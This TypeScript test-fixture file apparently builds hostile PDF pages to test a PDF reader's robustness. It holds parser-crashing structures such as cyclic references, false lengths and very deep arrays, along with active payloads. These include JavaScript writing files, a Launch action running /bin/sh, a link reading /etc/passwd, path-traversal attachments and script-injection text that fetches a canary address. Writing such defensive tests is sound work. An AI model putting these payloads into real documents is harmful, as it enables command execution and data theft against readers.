import { activeContent } from './active-content.ts';
import { onePage, type PdfObject } from './pdf-maker.ts';

/** A page that attacks whoever reads it, and nothing outside of it: it can stand between others. */
interface HostilePage {
  what: string;
  /** `canary`: an address that nobody may ask. */
  make: (canary: string) => Buffer;
}

const stream = (text: string, dictionary = ''): PdfObject => ({ dictionary, stream: Buffer.from(text, 'latin1') });
/** A content whose dictionary and end say what they like. */
const lying = (dictionary: string, text: string, end = '\nendstream'): PdfObject => `<< ${dictionary} >>\nstream\n${text}${end}`;
const words = 'BT /F1 12 Tf 72 500 Td (Words of a broken page) Tj ET';

/** Pages whose objects lead in circles, lie about themselves, are not there or end too early. */
export const brokenPages: HostilePage[] = [
  { what: 'a content that is not there', make: () => onePage({ content: '987654 0 R' }) },
  { what: 'contents that hold themselves', make: () => onePage({ content: '[4 0 R 4 0 R]' }) },
  { what: 'a content that is its own page', make: () => onePage({ content: '3 0 R' }) },
  { what: 'a content that is a number', make: () => onePage({ content: '42' }) },
  { what: 'a content that says it is longer than the file', make: () => onePage({ content: lying('/Length 99999999', words) }) },
  { what: 'a content that says it reaches into the next page', make: () => onePage({ content: lying('/Length 700', words) }) },
  { what: 'a content that says it is shorter than nothing', make: () => onePage({ content: lying('/Length -5', words) }) },
  { what: 'a content whose length is itself', make: () => onePage({ content: lying('/Length 4 0 R', words) }) },
  { what: 'a content without an end', make: () => onePage({ content: lying('/Length 10', words, '') }) },
  { what: 'a content that ends within a string', make: () => onePage({ content: stream('BT /F1 12 Tf 72 500 Td (Words (of a') }) },
  { what: 'a content that ends within a picture', make: () => onePage({ content: stream('q BI /W 9999 /H 9999 /BPC 8 /CS /RGB ID abc') }) },
  {
    what: 'a content that closes what it has not opened, and opens what it does not close',
    make: () => onePage({ content: stream(`Q Q ET EMC EMC ${words} /P << /MCID 4294967295 >> BDC q BT `) }),
  },
  {
    what: 'a content that is packed in no way that is known',
    make: () => onePage({ content: stream(words, '/Filter [/NoSuchDecode /FlateDecode /DCTDecode]') }),
  },
  { what: 'arrays 200,000 deep', make: () => onePage({ page: `/Deep ${'['.repeat(200_000)}${']'.repeat(200_000)}` }) },
  { what: 'a page that is its own parent', make: () => onePage({ page: '/Parent 3 0 R' }) },
  { what: 'a page that is turned by an eighth, on units as large as a town', make: () => onePage({ page: '/Rotate 45 /UserUnit 1e9' }) },
  { what: 'a page that is cut where it is not', make: () => onePage({ page: '/CropBox [5000 5000 6000 6000]' }) },
  {
    what: 'notes that hold themselves',
    make: () => onePage({ page: '/Annots 6 0 R' }, ['[6 0 R 7 0 R]', '<< /Type /Annot /Popup 7 0 R /Parent 7 0 R >>']),
  },
  {
    what: 'resources that lead to each other',
    make: () => onePage({ content: stream('/X Do'), resources: '/XObject 6 0 R /ExtGState 6 0 R' }, ['7 0 R', '6 0 R']),
  },
  {
    what: 'a mark that says it is a part of a tree that is not there',
    make: () => onePage({ content: stream(`/P << /MCID 0 >> BDC ${words} EMC`), page: '/StructParents 4294967295' }),
  },
];

/** Kinds of `activeContent` that need nothing outside of their page. */
const onPages = new Set([
  'a stream that lies elsewhere',
  'a font program that is noise',
  'a font whose sign draws itself',
  'a table of characters that names every one four thousand million times',
]);

/** Pages that want something run or fetched, or whose fonts are programs gone wrong. `mark`: a file that none may make. */
export const activePages = (mark: string): HostilePage[] => [
  ...activeContent(mark).filter(({ what }) => onPages.has(what)),
  {
    what: 'JavaScript where the page is opened and closed, and in a field',
    make: (canary) =>
      onePage({ page: `/AA << /O << /S /JavaScript /JS (this.submitForm('${canary}')) >> /C 7 0 R >> /Annots [6 0 R]` }, [
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [10 10 90 30] /AA << /K 7 0 R /F 7 0 R /V 7 0 R /C 7 0 R >> >>`,
        `<< /S /JavaScript /JS (require\\('fs'\\).writeFileSync\\('${mark}', 'x'\\)) /Next 7 0 R >>`,
      ]),
  },
  {
    what: 'links that run, send and fetch',
    make: (canary) =>
      onePage({ page: '/Annots [6 0 R 7 0 R 8 0 R 9 0 R]' }, [
        `<< /Type /Annot /Subtype /Link /Rect [72 690 200 720] /A << /S /URI /URI (javascript:fetch\\('${canary}'\\)) >> >>`,
        `<< /Type /Annot /Subtype /Link /Rect [72 690 200 720] /A << /S /Launch /F (/bin/sh) /P (-c "echo x > ${mark}") >> >>`,
        '<< /Type /Annot /Subtype /Link /Rect [72 690 200 720] /A << /S /GoToR /F (file:///etc/passwd) /D [0 /Fit] >> >>',
        `<< /Type /Annot /Subtype /Link /Rect [72 690 200 720] /A << /S /SubmitForm /F (${canary}) /Flags 4 >> >>`,
      ]),
  },
  {
    what: 'a film, a file and a picture that lie elsewhere',
    make: (canary) =>
      onePage(
        { content: stream('q 90 0 0 90 72 500 cm /X Do Q'), resources: '/XObject << /X 9 0 R >>', page: '/Annots [6 0 R 7 0 R 8 0 R]' },
        [
          `<< /Type /Annot /Subtype /Movie /Rect [10 10 90 90] /Movie << /F (${canary}film) /Poster true >> /A true >>`,
          `<< /Type /Annot /Subtype /FileAttachment /Rect [10 10 30 30] /FS << /Type /Filespec /F (../../../../tmp/x) /FS /URL /EF << /F 9 0 R >> >> >>`,
          `<< /Type /Annot /Subtype /RichMedia /Rect [10 10 90 90] /RichMediaContent << /Assets << /Names [(x.swf) << /F (${canary}x.swf) >>] >> >> >>`,
          stream(
            '',
            `/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceRGB /BitsPerComponent 8 /F << /FS /URL /F (${canary}picture) >>`,
          ),
        ],
      ),
  },
  {
    what: 'text that is a program to whoever shows it',
    make: (canary) =>
      onePage({
        content: stream(`BT /F1 12 Tf 72 500 Td (<script src="${canary}"></script><img src=x onerror=fetch\\('${canary}'\\)>) Tj ET`),
      }),
  },
];
